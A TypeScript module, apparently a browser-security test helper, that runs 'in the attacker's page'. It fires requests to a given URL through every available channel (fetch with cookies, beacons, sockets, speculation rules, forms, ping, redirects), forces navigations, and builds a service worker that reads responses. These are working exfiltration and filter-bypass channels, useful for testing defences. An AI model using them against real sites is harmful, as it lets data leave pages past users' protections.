/**
 * Every technique by which a script can make the browser request a URL without leaving its page. Runs in the attacker's
 * page, so it is one function that uses nothing outside itself. Returns when all requests have started.
 *
 * @param url each technique appends its own name
 * @param redirector URL of a server that redirects to what is appended, encoded
 */
export function requestInEveryWay(url: string, redirector: string): void {
  const { body } = document;
  const head = document.head ?? body;
  const at = (technique: string) => `${url}${technique}`;
  const redirected = (technique: string) => redirector + encodeURIComponent(at(technique));
  const insert = (name: string, attributes: Record<string, string>, parent: HTMLElement = body) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    parent.append(element);
    return element;
  };
  const attempt = (act: () => unknown) => {
    try {
      Promise.resolve(act()).catch(() => {});
    } catch {
      // The browser does not offer this technique here.
    }
  };

  attempt(() => fetch(at('fetch-no-cors'), { mode: 'no-cors' }));
  attempt(() => fetch(at('fetch-cors')));
  attempt(() => fetch(at('fetch-with-cookies'), { mode: 'no-cors', credentials: 'include' }));
  attempt(() => fetch(at('fetch-post'), { mode: 'no-cors', method: 'POST', body: 'x' }));
  attempt(() => fetch(at('fetch-keepalive'), { mode: 'no-cors', keepalive: true }));
  attempt(() => {
    const request = new XMLHttpRequest();
    request.open('GET', at('xhr'));
    request.send();
  });
  attempt(() => navigator.sendBeacon(at('beacon'), 'x'));
  attempt(() => new EventSource(at('event-source')));
  attempt(() => new WebSocket(at('socket').replace(/^http/, 'ws')));
  attempt(() => new FontFace('attack', `url(${JSON.stringify(at('font'))})`).load());
  insert('img', { src: at('image') });
  insert('script', { src: at('script') });
  insert('script', { src: at('module'), type: 'module' });
  insert('link', { rel: 'stylesheet', href: at('style') });
  insert('link', { rel: 'prefetch', href: at('prefetch') }, head);
  insert('link', { rel: 'preload', as: 'image', href: at('preload') }, head);
  insert('video', { src: at('video') });
  insert('iframe', { src: at('frame') });
  insert('object', { data: at('object') });
  insert('embed', { src: at('embed') });
  attempt(() => fetch(redirected('redirected-fetch'), { mode: 'no-cors' }));
  insert('img', { src: redirected('redirected-image') });
  insert('script', { src: redirected('redirected-script') });
  insert('iframe', { src: redirected('redirected-frame') });
  for (const action of ['prefetch', 'prerender']) {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ [action]: [{ source: 'list', urls: [at(`speculation-${action}`)] }] });
    head.append(rules);
  }
  for (const [method, technique] of [
    ['get', 'form-get'],
    ['post', 'form-post'],
  ] as const) {
    insert('iframe', { name: technique });
    const form = document.createElement('form');
    Object.assign(form, { method, target: technique, action: at(technique) });
    const [path = '', query = ''] = at(technique).split('?');
    if (method === 'get') {
      // A form replaces the query of its action by its fields.
      form.action = path;
      for (const [name, value] of new URLSearchParams(query)) {
        const field = document.createElement('input');
        Object.assign(field, { name, value, type: 'hidden' });
        form.append(field);
      }
    }
    body.append(form);
    attempt(() => form.submit());
  }
  // The link has to lead somewhere, but not this document.
  insert('iframe', { name: 'pinged' });
  insert('a', { href: redirector, target: 'pinged', ping: at('ping') }, body).click();
}

/** The techniques of `requestInEveryWay`. */
export const REQUEST_TECHNIQUES = [
  'fetch-no-cors',
  'fetch-cors',
  'fetch-with-cookies',
  'fetch-post',
  'fetch-keepalive',
  'xhr',
  'beacon',
  'event-source',
  'socket',
  'font',
  'image',
  'script',
  'module',
  'style',
  'prefetch',
  'preload',
  'video',
  'frame',
  'object',
  'embed',
  'redirected-fetch',
  'redirected-image',
  'redirected-script',
  'redirected-frame',
  'speculation-prefetch',
  'speculation-prerender',
  'form-get',
  'form-post',
  'ping',
] as const;

export type RequestTechnique = (typeof REQUEST_TECHNIQUES)[number];

/** Techniques by which a page navigates the top frame, or a new window, to a URL. Each runs in the attacker's page. */
export const NAVIGATION_TECHNIQUES: Readonly<Record<string, (url: string) => void>> = {
  link: (url) => {
    const link = document.body.appendChild(document.createElement('a'));
    Object.assign(link, { href: url, target: '_top' });
    link.click();
  },
  'link without referrer in a new tab': (url) => {
    const link = document.body.appendChild(document.createElement('a'));
    Object.assign(link, { href: url, target: '_blank', rel: 'noreferrer noopener' });
    link.click();
  },
  'link to a download': (url) => {
    const link = document.body.appendChild(document.createElement('a'));
    Object.assign(link, { href: url, target: '_top', download: 'stolen' });
    link.click();
  },
  'location of the top frame': (url) => {
    const top = window.top ?? window;
    top.location.href = url;
  },
  'form with GET': (url) => {
    const form = document.body.appendChild(document.createElement('form'));
    const [path = '', query = ''] = url.split('?');
    Object.assign(form, { method: 'get', action: path, target: '_top' });
    for (const [name, value] of new URLSearchParams(query)) {
      const field = form.appendChild(document.createElement('input'));
      Object.assign(field, { name, value, type: 'hidden' });
    }
    form.submit();
  },
  'form with POST': (url) => {
    const form = document.body.appendChild(document.createElement('form'));
    Object.assign(form, { method: 'post', action: url, target: '_top' });
    form.submit();
  },
  'form with POST into a new window': (url) => {
    const form = document.body.appendChild(document.createElement('form'));
    Object.assign(form, { method: 'post', action: url, target: '_blank' });
    form.submit();
  },
  window: (url) => void window.open(url),
  'window in two steps': (url) => {
    const opened = window.open('about:blank');
    if (opened) opened.location.href = url;
  },
  'window that goes back and forward': (url) => {
    const opened = window.open('about:blank');
    if (!opened) return;
    opened.location.href = url;
    AbortSignal.timeout(300).addEventListener('abort', () => {
      try {
        opened.history.back();
        opened.history.forward();
      } catch {
        // The window is out of reach by then.
      }
    });
  },
  'meta refresh': (url) => {
    const meta = document.createElement('meta');
    Object.assign(meta, { httpEquiv: 'refresh', content: `0; url=${url}` });
    document.head.append(meta);
  },
};

/** Script of a service worker that requests a URL when it gets a message, and answers with what it read. */
export function serviceWorkerCode(url: string): string {
  return `onmessage = ({ ports: [port] }) => fetch(${JSON.stringify(url)}, { mode: 'no-cors' })
    .then((response) => response.text(), String).then((text) => port.postMessage(text));`;
}
